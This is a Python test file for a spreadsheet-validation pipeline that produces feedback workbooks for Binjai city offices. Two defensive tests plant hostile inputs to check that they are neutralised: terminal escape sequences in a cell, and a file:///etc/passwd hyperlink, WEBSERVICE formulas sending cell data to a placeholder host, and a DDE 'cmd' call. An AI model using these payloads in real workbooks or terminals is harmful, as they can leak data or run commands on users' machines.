"""Feedback workbooks, `check` (a dry run) and the strict-mode gate, through the real CLI."""

from __future__ import annotations

import os
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from pipeline import template as tpl
from pipeline.feedback import MARKS, SHEET, feedback_rows
from pipeline.issues import ERROR, Issue, issues_frame
from pipeline.layout import row_height
from tests.broken_files import build
from tests.conftest import INPUT_DIR, SPEC_PATH, copy_inputs, input_file, run_cli, run_report


@pytest.fixture(scope="module")
def broken_report(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list]:
    root = tmp_path_factory.mktemp("umpan")
    defects = build(root / "input_xlsx")
    out = root / "out"
    result = run_report(root / "input_xlsx", out)
    assert result.returncode == 0, result.stderr  # ERRORs give a DRAFT, not a failure
    assert "DRAFT" in result.stdout
    return out, defects


def test_feedback_points_at_the_broken_cells(broken_report: tuple[Path, list]) -> None:
    out, defects = broken_report
    for d in defects:
        if not d.cell or not d.kode_opd or d.sheet == "_meta":
            continue
        path = out / "umpan_balik" / f"{d.kode_opd}.xlsx"
        rows = feedback_rows(path)
        mine = [r for r in rows if r["Aturan"] == d.rule and r["Sel"] == d.cell]
        assert len(mine) == 1, d.name
        assert mine[0]["Tingkat"] == d.severity
        assert mine[0]["Masalah dan cara memperbaiki"]
        wb = openpyxl.load_workbook(path)
        assert wb.sheetnames[0] == SHEET
        if d.rejects_file:
            continue
        cell = wb[d.sheet][d.cell]
        assert cell.comment is not None and f"[{d.severity}]" in cell.comment.text, d.name
        mark = MARKS[d.severity]
        assert cell.fill.fgColor.rgb.endswith(mark.fill), d.name
        assert cell.border.left.style == "thick", d.name
        assert cell.border.left.color.rgb.endswith(mark.border), d.name


def test_feedback_only_for_opds_with_problems(broken_report: tuple[Path, list]) -> None:
    out, _ = broken_report
    written = {p.stem for p in (out / "umpan_balik").glob("*.xlsx")}
    assert {"DINKES", "DLH", "BPBD", "KESBANGPOL"} <= written
    assert "SATPOL" not in written  # an unknown OPD has nobody to send feedback to
    kesbang = feedback_rows(out / "umpan_balik" / "KESBANGPOL.xlsx")
    assert [r["Aturan"] for r in kesbang] == ["kelengkapan.belum_kirim"]
    # the blank template that follows names every sheet to fill, the Renja one too
    wb = openpyxl.load_workbook(out / "umpan_balik" / "KESBANGPOL.xlsx", read_only=True)
    intro = " ".join(str(r[0]) for r in wb[SHEET].iter_rows(max_row=5, values_only=True))
    assert "isi sel kuning di sheet Indikator, Anggaran dan Renja" in intro
    assert tpl.SHEET_RENJA in wb.sheetnames


def test_feedback_leaks_no_machine_detail(broken_report: tuple[Path, list]) -> None:
    out, _ = broken_report
    secrets = [str(out.parent), str(Path.home()), os.environ.get("USER", "\0") or "\0"]
    for path in (out / "umpan_balik").glob("*.xlsx"):
        with zipfile.ZipFile(path) as zf:
            for name in zf.namelist():
                text = zf.read(name).decode("utf-8", "replace")
                for secret in secrets:
                    assert secret not in text, (path.name, name)
        props = openpyxl.load_workbook(path).properties
        assert props.creator == "Pemerintah Kota Binjai"
        assert props.lastModifiedBy == "Pemerintah Kota Binjai"


def test_feedback_of_a_rejected_file_is_its_own_copy(broken_report: tuple[Path, list]) -> None:
    out, _ = broken_report
    wb = openpyxl.load_workbook(out / "umpan_balik" / "BPBD.xlsx")
    assert tpl.SHEET_ANGGARAN in wb.sheetnames  # the OPD's own sheets follow the list
    assert tpl.SHEET_INDIKATOR not in wb.sheetnames  # the sheet they deleted


def test_check_writes_nothing_and_lists_cells(tmp_path: Path) -> None:
    folder = tmp_path / "input_xlsx"
    build(folder)
    out = tmp_path / "out"
    result = run_cli(
        "check", "--spec", str(SPEC_PATH), "--input", str(folder), "--output", str(out)
    )
    assert result.returncode == 0, result.stderr
    assert "[ERROR] DINKES" in result.stdout
    assert "› Indikator › K8" in result.stdout
    assert not out.exists()


def test_check_prints_an_opd_cell_as_one_line_without_terminal_controls(tmp_path: Path) -> None:
    """A cell's text echoed in a message went to the terminal as it came: an escape sequence
    (``ESC[2J`` clears the screen, ``ESC]0;…BEL`` retitles the window) ran in the analyst's
    terminal, and a carriage return or line break let the cell write over its line or add a
    line of its own. Each issue is now one printable line."""
    import re

    folder = copy_inputs(tmp_path)
    path = input_file(folder, "DINKES")
    with zipfile.ZipFile(path) as zf:
        parts = {info.filename: zf.read(info) for info in zf.infolist()}
    sheet = "xl/worksheets/sheet2.xml"
    typed = "_x001B_[2J_x001B_]0;judul_x0007_70_x000D_[INFO] baris palsu_x000A_[INFO] lagi"
    xml, count = re.subn(
        r'<c r="K6"([^>]*?)(?: t="\w+")?>.*?</c>',
        lambda m: f'<c r="K6"{m[1]} t="inlineStr"><is><t>{typed}</t></is></c>',
        parts[sheet].decode(),
        count=1,
    )
    assert count == 1
    parts[sheet] = xml.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)

    result = run_cli("check", "--spec", str(SPEC_PATH), "--input", str(folder))
    assert result.returncode == 0, result.stderr
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", result.stdout)
    said = [line for line in result.stdout.splitlines() if "baris palsu" in line]
    assert len(said) == 1
    assert said[0].startswith("[ERROR] DINKES") and "› K6:" in said[0]
    assert "lagi" in said[0]
    assert not [line for line in result.stdout.splitlines() if line.startswith("[INFO] lagi")]


def test_strict_mode_exits_with_a_distinct_code(tmp_path: Path) -> None:
    folder = tmp_path / "input_xlsx"
    build(folder)
    wb = openpyxl.load_workbook(SPEC_PATH)
    wb["pengaturan"].append(["mode_ketat", "ya"])
    spec = tmp_path / "spec.xlsx"
    wb.save(spec)
    result = run_report(folder, tmp_path / "out", spec=spec)
    assert result.returncode == 3
    assert (tmp_path / "out" / "1275_2018_konsolidasi.xlsx").is_file()  # the draft is written


def test_cells_merged_over_flagged_cells_are_marked_at_the_merge(tmp_path: Path) -> None:
    """An OPD merged DINSOS's K6:K8 (one value for three indicators): K7 and K8 are flagged
    empty, and marking them in the feedback copy ended the whole report with a traceback
    (a merged cell takes no comment). The merge's first cell carries their notes, each naming
    its own cell; the report is written."""
    folder = copy_inputs(tmp_path)
    path = input_file(folder, "DINSOS")
    wb = openpyxl.load_workbook(path)
    wb[tpl.SHEET_INDIKATOR].merge_cells("K6:K8")
    wb.save(path)
    out = tmp_path / "out"
    result = run_report(folder, out)
    assert result.returncode == 0, result.stderr
    copy = openpyxl.load_workbook(out / "umpan_balik" / "DINSOS.xlsx")[tpl.SHEET_INDIKATOR]
    note = copy["K6"].comment
    assert note is not None
    assert "(sel K7, di dalam sel gabungan)" in note.text
    assert "(sel K8, di dalam sel gabungan)" in note.text
    assert copy["K6"].border.left.style == "thick"
    listed = {r["Sel"] for r in feedback_rows(out / "umpan_balik" / "DINSOS.xlsx")}
    assert {"K7", "K8"} <= listed


def test_a_marked_cell_the_opd_hid_is_shown_in_the_copy(tmp_path: Path) -> None:
    """DLH hid row 7 and columns L:N (its K7 holds text): the copy kept them hidden, so the
    link to K7 landed on nothing and the printed copy had no such row."""
    folder = copy_inputs(tmp_path)
    path = input_file(folder, "DLH")
    wb = openpyxl.load_workbook(path)
    ws = wb[tpl.SHEET_INDIKATOR]
    ws["K7"] = "empat lima"
    ws["L8"] = "sembilan"
    ws.row_dimensions[7].hidden = True
    ws.row_dimensions[10].hidden = True  # nothing marked there: stays as the OPD left it
    ws.column_dimensions.group("L", "N", hidden=True)
    # a narrative of several lines in a row one line high: printed cut off mid-line
    penghambat = tpl.column_letter(tpl.INDIKATOR_COLUMNS, "faktor_penghambat")
    text = "Data belum lengkap karena pendataan lapangan tertunda hujan dan banjir. " * 2
    ws[f"{penghambat}9"] = text
    wb[tpl.SHEET_ANGGARAN].sheet_state = "veryHidden"  # Excel's menus cannot show it again
    wb.save(path)
    out = tmp_path / "out"
    result = run_report(folder, out)
    assert result.returncode == 0, result.stderr
    said = pd.read_csv(out / "validasi.csv", dtype=str, keep_default_na=False)
    hid = said[said["rule"] == "struktur.sheet_tersembunyi"]
    assert hid[["file", "sheet", "severity"]].values.tolist() == [
        [path.name, tpl.SHEET_ANGGARAN, "WARNING"]
    ]
    assert "sangat tersembunyi" in hid["message"].iloc[0]
    book = openpyxl.load_workbook(out / "umpan_balik" / "DLH.xlsx")
    assert book[tpl.SHEET_ANGGARAN].sheet_state == "visible"
    assert book[tpl.SHEET_META].sheet_state == "hidden"  # as the template hides it
    copy = book[tpl.SHEET_INDIKATOR]
    width = copy.column_dimensions[penghambat].width
    # 144 characters in a column of 'width' characters: six lines at least
    assert width is not None and width < 30
    assert copy.row_dimensions[9].height >= 6 * 12 * 10 / 9
    assert copy.row_dimensions[9].height == row_height((text, width), font_pt=10, unit_pt=10)
    assert copy["K7"].comment is not None and copy["L8"].comment is not None
    assert not copy.row_dimensions[7].hidden
    assert copy.row_dimensions[10].hidden
    assert not any(
        d.hidden and (d.min or 0) <= 12 <= (d.max or 0) for d in copy.column_dimensions.values()
    )


def test_an_issue_of_another_file_of_the_opd_names_that_file(tmp_path: Path) -> None:
    """BKD sent its file twice: the feedback checks the file used, and the notice about the
    other (not used) read as if it were about the file named at the top. It names its file."""
    folder = copy_inputs(tmp_path)
    used = input_file(folder, "BKD")
    twin = folder / "BKD kiriman kedua.xlsx"
    twin.write_bytes(used.read_bytes())
    out = tmp_path / "out"
    result = run_report(folder, out)
    assert result.returncode == 0, result.stderr
    rows = feedback_rows(out / "umpan_balik" / "BKD.xlsx")
    wb = openpyxl.load_workbook(out / "umpan_balik" / "BKD.xlsx", read_only=True)
    top = "\n".join(str(r[0]) for r in wb[SHEET].iter_rows(max_row=4, values_only=True))
    checked = next(name for name in (used.name, twin.name) if f"diperiksa: {name}" in top)
    other = twin.name if checked == used.name else used.name
    notes = [r for r in rows if r["Aturan"] == "berkas.digantikan"]
    assert notes and all(
        r["Masalah dan cara memperbaiki"].startswith(f"Berkas '{other}': ") for r in notes
    )
    own = [r for r in rows if r["Aturan"] != "berkas.digantikan"]
    assert not any(str(r["Masalah dan cara memperbaiki"]).startswith("Berkas '") for r in own)


def test_check_says_each_spec_issue_once_and_names_without_a_stray_space() -> None:
    """`check` printed the spec's WARNING twice (as the spec was read, then in the list) and
    '[WARNING] KESBANGPOL : …' for an issue without a place."""
    result = run_cli("check", "--spec", str(SPEC_PATH), "--input", str(INPUT_DIR))
    assert result.returncode == 0, result.stderr
    both = result.stdout + result.stderr
    spec_lines = [line for line in both.splitlines() if SPEC_PATH.name in line]
    assert len(spec_lines) == len(set(spec_lines)) >= 1
    assert SPEC_PATH.name not in result.stdout
    assert "[WARNING] KESBANGPOL: " in result.stdout
    assert not [
        line for line in result.stdout.splitlines() if line.startswith("[") and " : " in line
    ]


def test_a_file_replaced_after_it_was_read_is_not_copied_into_its_feedback(
    tmp_path: Path,
) -> None:
    """The feedback copy was made from whatever the folder held at writing time: a file
    corrected during the run got the first file's marks on the new file's content. Without
    the copy, the feedback says why (it said the file was too big)."""
    from pipeline.feedback import NO_COPY_CHANGED, Contact, _load_copy, build_feedback
    from pipeline.ingest import read_submission
    from tests.conftest import INPUT_DIR, input_file

    path = tmp_path / "dinsos.xlsx"
    shutil.copy(input_file(INPUT_DIR, "DINSOS"), path)
    sub = read_submission(path, path.name)
    assert not isinstance(_load_copy(path, sub.sha256), str)
    shutil.copy(input_file(INPUT_DIR, "DINKES"), path)  # replaced while the run was on
    assert _load_copy(path, sub.sha256) == NO_COPY_CHANGED
    issues = issues_frame(
        [Issue("x.y", ERROR, "pesan", path.name, "Indikator", "E7", kode_opd="DINSOS")]
    )
    wb = build_feedback("DINSOS", "Dinas Sosial", Contact("Kota Contoh", 2018), issues, sub)
    assert wb.sheetnames == [SHEET]  # the list alone
    said = [str(c.value) for row in wb[SHEET].iter_rows(max_row=4) for c in row if c.value]
    assert any("berganti setelah diperiksa" in line and path.name in line for line in said)
    assert not any("terlalu besar" in line for line in said)


def test_the_copy_keeps_nothing_of_the_opd_that_excel_acts_on(tmp_path: Path) -> None:
    """The feedback copy is the OPD's own file: its cell formulas became values, but its
    hyperlinks (a web address, ``file:///etc/passwd``), a conditional format calling
    WEBSERVICE, a defined name holding a DDE call and a data validation whose bound is a
    formula went into ``umpan_balik/`` as they were, live when the OPD or the secretariat opens
    it. The template's own validations (numbers, typed-out lists) stay."""
    from openpyxl.formatting.rule import FormulaRule
    from openpyxl.workbook.defined_name import DefinedName
    from openpyxl.worksheet.datavalidation import DataValidation

    folder = copy_inputs(tmp_path)
    path = input_file(folder, "DISDIK")
    wb = openpyxl.load_workbook(path)
    ws = wb["Indikator"]
    kept = len(ws.data_validations.dataValidation)
    ws["M6"].hyperlink = "http://contoh.invalid/bocor"
    ws["M7"].hyperlink = "file:///etc/passwd"
    ws.conditional_formatting.add(
        "A6:A20",
        FormulaRule(formula=['ISNUMBER(WEBSERVICE("http://contoh.invalid/?"&A6))']),
    )
    wb.defined_names["Jalankan"] = DefinedName("Jalankan", attr_text="cmd|'/c calc'!A0")
    bound = DataValidation(type="custom", formula1='=WEBSERVICE("http://contoh.invalid/dv")')
    ws.add_data_validation(bound)
    bound.add("R6")
    ws["K6"].value = "=1+1"  # an ERROR, so DISDIK gets feedback with its copy
    wb.save(path)

    result = run_report(folder, tmp_path / "out")
    assert result.returncode == 0, result.stderr
    feedback = tmp_path / "out" / "umpan_balik" / "DISDIK.xlsx"
    with zipfile.ZipFile(feedback) as zf:
        xml = b"".join(zf.read(n) for n in zf.namelist() if n.endswith((".xml", ".rels")))
    for live in (b"contoh.invalid", b"/etc/passwd", b"WEBSERVICE", b"cmd|", b"Jalankan"):
        assert live not in xml, live
    assert b"<cfRule" not in xml
    copy = openpyxl.load_workbook(feedback)
    assert len(copy["Indikator"].data_validations.dataValidation) == kept
    assert not [c for row in copy["Indikator"].iter_rows() for c in row if c.hyperlink]


def test_the_problems_are_listed_sheet_by_sheet_and_row_by_row() -> None:
    """Within a severity the list went sheet by sheet alphabetically (Anggaran before
    Indikator) and column by column (J10 and J14 before K6): the five problems of one Renja
    row stood far apart. It follows the template now: Indikator, Anggaran, Renja, each row by
    row; ERRORs still come first."""
    from pipeline.feedback import _sorted

    rows = [
        ("WARNING", "Anggaran", "E6"),
        ("WARNING", "Indikator", "J14"),
        ("WARNING", "Indikator", "K6"),
        ("WARNING", "Indikator", "J10"),
        ("WARNING", "Renja", "M6"),
        ("WARNING", "Renja", "H8"),
        ("WARNING", "Renja", "L6"),
        ("ERROR", "Renja", "A9"),
        ("WARNING", "", ""),
    ]
    issues = pd.DataFrame(rows, columns=["severity", "sheet", "cell"]).assign(rule="r")
    got = list(_sorted(issues)[["sheet", "cell"]].itertuples(index=False, name=None))
    assert got == [
        ("Renja", "A9"),
        ("", ""),
        ("Indikator", "K6"),
        ("Indikator", "J10"),
        ("Indikator", "J14"),
        ("Anggaran", "E6"),
        ("Renja", "L6"),
        ("Renja", "M6"),
        ("Renja", "H8"),
    ]


def test_the_problem_tables_headers_repeat_on_every_printed_page(report_dir: Path) -> None:
    """A long list printed over several pages had its column headers on the first only (the
    print titles were turned off): a clerk read 'ERROR | Renja | M6 | …' with no names. The
    first table's header row repeats (both tables have the same columns); the lines above it
    do not."""
    from pipeline.feedback import HEADERS

    for path in sorted((report_dir / "umpan_balik").glob("*.xlsx")):
        ws = openpyxl.load_workbook(path)["Umpan Balik"]
        heads = [c.row for c in ws["A"] if c.value == HEADERS[0]]
        assert heads, path.name
        assert ws.print_title_rows == f"${heads[0]}:${heads[0]}", path.name
